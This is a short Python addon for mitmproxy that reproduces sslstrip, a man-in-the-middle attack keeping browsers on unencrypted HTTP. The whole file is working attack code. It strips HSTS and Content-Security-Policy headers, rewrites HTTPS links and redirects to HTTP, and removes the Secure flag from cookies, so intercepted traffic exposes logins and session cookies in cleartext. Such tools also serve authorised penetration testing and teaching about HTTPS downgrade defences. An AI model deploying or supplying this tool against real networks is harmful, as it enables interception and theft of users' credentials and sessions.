"""Has mitmproxy keep browsers on plain HTTP, as sslstrip does.

    mitmdump --mode reverse:http://127.0.0.1:PLAIN -s strip.py --set servers=SECURE

What is asked for in clear is fetched over HTTPS, from the port of this computer
where every host's HTTPS is; encryption is taken out of the answer's addresses,
and so are redirects to it, the order to use it, and the mark that keeps cookies
to it.
"""

import re

from mitmproxy import ctx

SECURE = re.compile(r";\s*secure\b", re.IGNORECASE)


class Strip:
    def load(self, loader):
        loader.add_option("servers", int, 443, "Port of this computer where every host's HTTPS is.")

    def request(self, flow):
        host = flow.request.pretty_host
        flow.request.headers.pop("accept-encoding", None)
        flow.request.scheme = "https"
        flow.request.host = host  # also the name that is asked for in the TLS greeting
        flow.request.port = 443

    def server_connect(self, data):
        if data.server.address[1] == 443:
            data.server.address = ("127.0.0.1", ctx.options.servers)

    def response(self, flow):
        headers = flow.response.headers
        for name in ("strict-transport-security", "content-security-policy"):
            headers.pop(name, None)
        if "location" in headers:
            headers["location"] = headers["location"].replace("https://", "http://")
        headers.set_all("set-cookie", [SECURE.sub("", cookie) for cookie in headers.get_all("set-cookie")])
        if headers.get("content-type", "").startswith("text/"):
            flow.response.text = flow.response.text.replace("https://", "http://")


addons = [Strip()]
